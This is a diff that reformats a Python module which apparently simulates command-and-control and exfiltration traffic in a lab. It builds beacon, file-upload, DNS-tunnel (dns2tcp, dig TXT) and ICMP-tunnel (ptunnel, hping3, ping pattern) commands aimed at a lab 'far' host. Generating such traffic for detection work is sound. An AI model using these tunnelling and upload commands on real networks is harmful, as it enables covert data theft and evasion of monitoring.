@@ -27,7 +27,9 @@ def talk(scene: Scene, way: str, to: str, count: int, *words: object, caps: tupl
     return own(scene, "talk.py", way, "--to", to, "--count", count, "--seed", seed(scene), *words, caps=caps)
 
 
-def both(scene: Scene, hosts: Hosts, way: str, port: int, count: int, answers: str, tasks: float, *words: object) -> list[Program]:
+def both(
+    scene: Scene, hosts: Hosts, way: str, port: int, count: int, answers: str, tasks: float, *words: object
+) -> list[Program]:
     """Both ends of what is said in one way; pings are answered by the kernel."""
     port = port or PORTS[way]
     if way == "icmp":
@@ -37,16 +39,20 @@ def both(scene: Scene, hosts: Hosts, way: str, port: int, count: int, answers: s
 
 
 @tool("beacon", "talk")
-def beacon_talk(scene: Scene, _: AttackSpec, hosts: Hosts, *, way: str, every_s: float, count: int, jitter: float = 0.0,
-                up: str = "0", answers: str = "0-64", tasks: float = 0.0, keep: bool = False, port: int = 0) -> list[Program]:
+def beacon_talk(
+    scene: Scene, _: AttackSpec, hosts: Hosts, *, way: str, every_s: float, count: int, jitter: float = 0.0,
+    up: str = "0", answers: str = "0-64", tasks: float = 0.0, keep: bool = False, port: int = 0,
+) -> list[Program]:
     """Asks its master for work, evenly or with jitter; now and then there is some."""
     return both(scene, hosts, way, port, count, answers, tasks, "--every", every_s, "--jitter", jitter, "--up", up,
                 *(("--keep",) if keep else ()))
 
 
 @tool("beacon", "curl")
-def beacon_curl(scene: Scene, _: AttackSpec, hosts: Hosts, *, a_minute: int, count: int, tls: bool = False, port: int = 0,
-                answers: str = "20-300") -> list[Program]:
+def beacon_curl(
+    scene: Scene, _: AttackSpec, hosts: Hosts, *, a_minute: int, count: int, tls: bool = False, port: int = 0,
+    answers: str = "20-300",
+) -> list[Program]:
     """curl, so many times a minute, a connection each."""
     way = "https" if tls else "http"
     port = port or PORTS[way]
@@ -56,7 +62,9 @@ def beacon_curl(scene: Scene, _: AttackSpec, hosts: Hosts, *, a_minute: int, cou
 
 
 @tool("beacon", "dig")
-def beacon_dig(scene: Scene, _: AttackSpec, hosts: Hosts, *, every_s: float, count: int, answers: str = "10-80") -> list[Program]:
+def beacon_dig(
+    scene: Scene, _: AttackSpec, hosts: Hosts, *, every_s: float, count: int, answers: str = "10-80"
+) -> list[Program]:
     """dig for a text, again and again, a name of its own each time."""
     return [far(scene, hosts, "dns", 53, answers), dug(scene, hosts, every_s, count, 8)]
 
@@ -67,7 +75,8 @@ def dug(scene: Scene, hosts: Hosts, every_s: float, count: int, characters: int)
     drawn = ["".join(scene.rng.choices(letters, k=characters)) for _ in range(count)]
     names = [".".join(text[at : at + 50] for at in range(0, len(text), 50)) for text in drawn]
     path = scene.folder / f"dig-{seed(scene)}.sh"
-    path.write_text("".join(f"dig +tries=1 +time=2 @{hosts.far[0]} {name}.{DOMAIN} TXT\nsleep {every_s}\n" for name in names))
+    asks = f"dig +tries=1 +time=2 @{hosts.far[0]}"
+    path.write_text("".join(f"{asks} {name}.{DOMAIN} TXT\nsleep {every_s}\n" for name in names))
     return Program(("sh", str(path)))
 
 
@@ -87,7 +96,9 @@ def burst_talk(scene: Scene, _: AttackSpec, hosts: Hosts, *, way: str, size: int
 
 
 @tool("burst", "curl")
-def burst_curl(scene: Scene, _: AttackSpec, hosts: Hosts, *, size: int, tls: bool = False, limit: str = "", port: int = 0) -> list[Program]:
+def burst_curl(
+    scene: Scene, _: AttackSpec, hosts: Hosts, *, size: int, tls: bool = False, limit: str = "", port: int = 0
+) -> list[Program]:
     """curl uploads a file; `limit` is bytes a second."""
     way = "https" if tls else "http"
     port = port or PORTS[way]
@@ -100,12 +111,15 @@ def burst_curl(scene: Scene, _: AttackSpec, hosts: Hosts, *, size: int, tls: boo
 def burst_socat(scene: Scene, _: AttackSpec, hosts: Hosts, *, size: int, port: int) -> list[Program]:
     """A file through a bare connection."""
     listening = Program(("socat", "-u", f"TCP-LISTEN:{port},fork,reuseaddr", "OPEN:/dev/null"), far=True, serves=True)
-    return [listening, Program(("socat", "-u", f"OPEN:{blob(scene, size)}", f"TCP:{hosts.far[0]}:{port},retry=10,interval=0.3"))]
+    to = f"TCP:{hosts.far[0]}:{port},retry=10,interval=0.3"
+    return [listening, Program(("socat", "-u", f"OPEN:{blob(scene, size)}", to))]
 
 
 @tool("drip", "talk")
-def drip_talk(scene: Scene, _: AttackSpec, hosts: Hosts, *, way: str, every_s: float, count: int, up: str, jitter: float = 0.3,
-              keep: bool = False, port: int = 0) -> list[Program]:
+def drip_talk(
+    scene: Scene, _: AttackSpec, hosts: Hosts, *, way: str, every_s: float, count: int, up: str,
+    jitter: float = 0.3, keep: bool = False, port: int = 0,
+) -> list[Program]:
     """A piece now and a piece then."""
     return both(scene, hosts, way, port, count, "0-30", 0.0, "--every", every_s, "--jitter", jitter, "--up", up,
                 *(("--keep",) if keep else ()))
@@ -118,8 +132,9 @@ def drip_curl(scene: Scene, _: AttackSpec, hosts: Hosts, *, a_minute: int, count
     way = "https" if tls else "http"
     port = port or PORTS[way]
     return [far(scene, hosts, way, port, "0-30"),
-            Program(("curl", "-sk", "-o", "/dev/null", "--rate", f"{a_minute}/m", "-H", "Connection: close", "-H", "Expect:",
-                     "--data-binary", f"@{blob(scene, size)}", f"{way}://{hosts.far[0]}:{port}/api/log?n=[1-{count}]"))]
+            Program(("curl", "-sk", "-o", "/dev/null", "--rate", f"{a_minute}/m", "-H", "Connection: close",
+                     "-H", "Expect:", "--data-binary", f"@{blob(scene, size)}",
+                     f"{way}://{hosts.far[0]}:{port}/api/log?n=[1-{count}]"))]
 
 
 @tool("dns-tunnel", "dns2tcp")
@@ -130,7 +145,7 @@ def dns_dns2tcp(scene: Scene, _: AttackSpec, hosts: Hosts, *, count: int, up: st
     path.write_text(f"listen = {hosts.far[0]}\nport = 53\ndomain = {DOMAIN}\nresources = drop:127.0.0.1:{DROP}\n")
     return [
         Program(("dns2tcpd", "-F", "-d", "1", "-f", str(path)), LOW_PORT, far=True, serves=True),
-        inner(scene), 
+        inner(scene),
         Program(("dns2tcpc", "-z", DOMAIN, "-r", "drop", "-T", record, "-l", str(TUNNEL), hosts.far[0]), serves=True),
         through(scene, count, up, every_s, jitter),
     ]
@@ -138,12 +153,14 @@ def dns_dns2tcp(scene: Scene, _: AttackSpec, hosts: Hosts, *, count: int, up: st
 
 def inner(scene: Scene) -> Program:
     """Who takes what comes out of a tunnel."""
-    return own(scene, "listen.py", "--tcp", DROP, "--answers", "0-200", "--seed", seed(scene), "127.0.0.1", far=True, serves=True)
+    return own(scene, "listen.py", "--tcp", DROP, "--answers", "0-200", "--seed", seed(scene), "127.0.0.1",
+               far=True, serves=True)
 
 
 def through(scene: Scene, count: int, up: str, every_s: float, jitter: float) -> Program:
     """What goes into a tunnel."""
-    return talk(scene, "tcp", f"127.0.0.1:{TUNNEL}", count, "--every", every_s, "--jitter", jitter, "--up", up, "--keep")
+    return talk(scene, "tcp", f"127.0.0.1:{TUNNEL}", count, "--every", every_s, "--jitter", jitter, "--up", up,
+                "--keep")
 
 
 @tool("dns-tunnel", "talk")
@@ -155,17 +172,23 @@ def dns_talk(scene: Scene, _: AttackSpec, hosts: Hosts, *, count: int, up: str, 
 
 
 @tool("dns-tunnel", "dig")
-def dns_dig(scene: Scene, _: AttackSpec, hosts: Hosts, *, every_s: float, count: int, characters: int = 150) -> list[Program]:
+def dns_dig(
+    scene: Scene, _: AttackSpec, hosts: Hosts, *, every_s: float, count: int, characters: int = 150
+) -> list[Program]:
     """A shell script with dig: a socket a question."""
     return [far(scene, hosts, "dns", 53, "5-30"), dug(scene, hosts, every_s, count, characters)]
 
 
 @tool("icmp-tunnel", "ptunnel")
-def icmp_ptunnel(scene: Scene, _: AttackSpec, hosts: Hosts, *, count: int, up: str, every_s: float, jitter: float = 0.3) -> list[Program]:
+def icmp_ptunnel(
+    scene: Scene, _: AttackSpec, hosts: Hosts, *, count: int, up: str, every_s: float, jitter: float = 0.3
+) -> list[Program]:
     """TCP inside of pings."""
     return [
-        Program(("ptunnel",), RAW, far=True, serves=True), inner(scene),
-        Program(("ptunnel", "-p", hosts.far[0], "-lp", str(TUNNEL), "-da", "127.0.0.1", "-dp", str(DROP)), RAW, serves=True),
+        Program(("ptunnel",), RAW, far=True, serves=True),
+        inner(scene),
+        Program(("ptunnel", "-p", hosts.far[0], "-lp", str(TUNNEL), "-da", "127.0.0.1", "-dp", str(DROP)), RAW,
+                serves=True),
         through(scene, count, up, every_s, jitter),
     ]
 
@@ -182,12 +205,15 @@ def icmp_talk(scene: Scene, _: AttackSpec, hosts: Hosts, *, count: int, up: str,
 def icmp_hping3(scene: Scene, _: AttackSpec, hosts: Hosts, *, size: int, bytes_each: int, rate: int) -> list[Program]:
     """hping3 sends a file in pings."""
     pings = size // bytes_each
-    return [Program(("hping3", "-q", "-n", "--icmp", "-d", str(bytes_each), "-E", str(blob(scene, size)), "-c", str(pings),
-                     "-i", f"u{1_000_000 // rate}", hosts.far[0]), RAW)]
+    return [Program(("hping3", "-q", "-n", "--icmp", "-d", str(bytes_each), "-E", str(blob(scene, size)),
+                     "-c", str(pings), "-i", f"u{1_000_000 // rate}", hosts.far[0]), RAW)]
 
 
 @tool("icmp-tunnel", "ping")
-def icmp_ping(scene: Scene, _: AttackSpec, hosts: Hosts, *, count: int, every_s: float, bytes_each: int = 1_000) -> list[Program]:
+def icmp_ping(
+    scene: Scene, _: AttackSpec, hosts: Hosts, *, count: int, every_s: float, bytes_each: int = 1_000
+) -> list[Program]:
     """ping with a pattern, of a size that nobody needs."""
     pattern = f"{scene.rng.getrandbits(120):030x}"
-    return [Program(("ping", "-q", "-n", "-i", str(every_s), "-s", str(bytes_each), "-p", pattern, "-c", str(count), hosts.far[0]))]
+    return [Program(("ping", "-q", "-n", "-i", str(every_s), "-s", str(bytes_each), "-p", pattern, "-c", str(count),
+                     hosts.far[0]))]
